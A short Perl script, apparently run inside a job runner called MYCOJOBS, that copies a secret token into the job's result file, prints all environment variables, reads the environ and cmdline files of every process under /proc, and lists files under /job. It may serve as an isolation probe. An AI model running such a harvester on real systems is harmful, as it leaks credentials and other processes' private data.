use File::Find;
local $/;
open(my $secret, "<", "$ENV{MYCOJOBS_SECRETS}/token") or die $!;
open(my $result, ">", $ENV{MYCOJOBS_RESULT}) or die $!;
print $result "token=", <$secret>, "\n";
print "$_=$ENV{$_}\n" for keys %ENV;
for my $path (glob("/proc/[0-9]*/environ /proc/[0-9]*/cmdline")) {
    open(my $file, "<", $path) or next;
    print "$path ", <$file>, "\n";
}
find(sub { print "$File::Find::name\n" }, "/job");
